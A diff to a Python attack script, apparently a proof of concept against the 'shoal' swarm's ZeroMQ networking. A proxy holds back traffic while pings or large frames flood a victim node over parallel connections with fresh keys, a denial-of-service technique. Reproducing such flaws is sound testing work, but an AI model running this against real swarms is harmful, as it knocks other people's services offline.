@@ -21,12 +21,15 @@ from zmq.utils import z85
 
 from shoal.swarm.identity import CurveKeys
 from shoal.swarm.invite import Invite
-from shoal.swarm.messages import PeerToCoordinatorDescribeModel, PeerToPeerPing, TensorSpec
+from shoal.swarm.messages import PeerToPeerPing
 from shoal.swarm.observer import observe
 from shoal.swarm.wire import Envelope, encode
 
 SMALL, LARGE, CONNECTIONS = 100, 40, 8
-_SPECS = 3000
+LARGE_BYTES = 30_000
+"""As much as one frame may have; what it says does not matter where it is not read."""
+
+_LET_IN_MS = 8000
 
 
 class Tap:
@@ -58,7 +61,11 @@ class Tap:
 
     def _connect(self) -> None:
         self._here, _ = self._listening.accept()
-        self._there = socket.create_connection(self._victim)
+        try:
+            self._there = socket.create_connection(self._victim)
+        except OSError:
+            self._here.close()
+            return
         self._there.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         threading.Thread(target=self._pass_back, daemon=True).start()
         try:
@@ -89,7 +96,7 @@ def attack(victim: tuple[str, int], key: bytes, me: CurveKeys, how: str) -> bool
         client.heartbeat_ivl, client.heartbeat_timeout = 1, 60_000
     monitor = client.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED)
     client.connect(f"tcp://127.0.0.1:{tap.port}")
-    if not monitor.poll(10_000):
+    if not monitor.poll(_LET_IN_MS):
         return False
     tap.keep()
     if how == "ping":
@@ -97,16 +104,7 @@ def attack(victim: tuple[str, int], key: bytes, me: CurveKeys, how: str) -> bool
             client.send(encode(Envelope("notice", 0, PeerToPeerPing())))
             time.sleep(0.001)  # for a PING or two in between
     else:
-        layout = tuple(TensorSpec(name=f"{number}", shape=(1, 1), dtype="float32") for number in range(_SPECS))
-        large = encode(
-            Envelope(
-                "notice",
-                0,
-                PeerToCoordinatorDescribeModel(
-                    layout=layout, corpus_digest=None, corpus_about="", tokens_per_sample=1, samples=None
-                ),
-            )
-        )
+        large = bytes(LARGE_BYTES)
         for _ in range(LARGE):
             client.send(large)
         while tap.kept_bytes < LARGE * len(large):
@@ -118,20 +116,26 @@ def attack(victim: tuple[str, int], key: bytes, me: CurveKeys, how: str) -> bool
     return True
 
 
-def attack_often(victim: tuple[str, int], key: bytes, me: CurveKeys, how: str, times: int) -> None:
-    for _ in range(times):
+def attack_often(victim: tuple[str, int], key: bytes, me: CurveKeys | None, how: str, times: int) -> None:
+    """``me``: whoever the victim knows; without, somebody new each time."""
+    for number in range(times):
         if how == "ping":
-            done = [attack(victim, key, me, how)]
+            done = [attack(victim, key, me or CurveKeys.fresh(), how)]
         else:
             with ThreadPoolExecutor(CONNECTIONS) as pool:
-                tries = [pool.submit(attack, victim, key, me, how) for _ in range(CONNECTIONS)]
+                tries = [pool.submit(attack, victim, key, me or CurveKeys.fresh(), how) for _ in range(CONNECTIONS)]
             done = [one.result() for one in tries]
-        print("attacked" if all(done) else "not let in", flush=True)
+        if not any(done):
+            if not number:
+                sys.exit("not let in")
+            print("not let in any more", flush=True)
+            return
+        print("attacked", flush=True)
 
 
 async def main(invite: Invite, whom: str, how: str, times: int) -> None:
     if whom == "host":
-        attack_often(invite.addresses[0], invite.key, CurveKeys.fresh(), how, times)
+        attack_often(invite.addresses[0], invite.key, None, how, times)
         return
     async with observe(invite) as guest:
         entry = next(one for one in guest.view.roster or () if one.name == whom)
